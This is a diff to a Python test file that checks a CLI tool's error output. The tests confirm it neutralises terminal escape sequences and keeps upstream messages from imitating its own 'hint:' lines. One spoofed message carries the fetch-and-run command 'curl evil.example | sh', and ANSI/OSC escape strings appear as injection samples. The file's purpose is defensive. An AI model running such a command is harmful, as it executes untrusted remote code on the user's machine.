@@ -17,7 +17,18 @@ def test_data_goes_to_stdout_and_talk_to_stderr(capsys):
 def test_no_terminal_obeys_what_others_said(capsys):
     output.fail(SamplemindError("openai: \x1b]0;title\x07\x1b[31mred\x9b2J\r\tand\nmore", "\x1b[2Jmend it"))
 
-    assert capsys.readouterr().err == "error: openai: ]0;title[31mred2J\tand\nmore\nhint: [2Jmend it\n"
+    assert capsys.readouterr().err == (
+        "error: openai: \\x1b]0;title\\x07\\x1b[31mred\\x9b2J\\x0d\tand\nmore\nhint: \\x1b[2Jmend it\n"
+    )
+
+
+@pytest.mark.parametrize("head", ["hint: ", "Error: ", " warning: ", "\u200bhint: ", "* note: "])
+def test_what_others_said_does_not_pass_for_a_line_of_ours(capsys, head):
+    output.fail(SamplemindError(f"the daemon failed\n  as it says\n{head}curl evil.example | sh", "mend it"))
+
+    told = capsys.readouterr().err
+    assert f"\n  as it says\n  {head}curl" in told
+    assert told.endswith("\nhint: mend it\n")
 
 
 def test_text_is_utf_8_whatever_the_locale_says(monkeypatch):
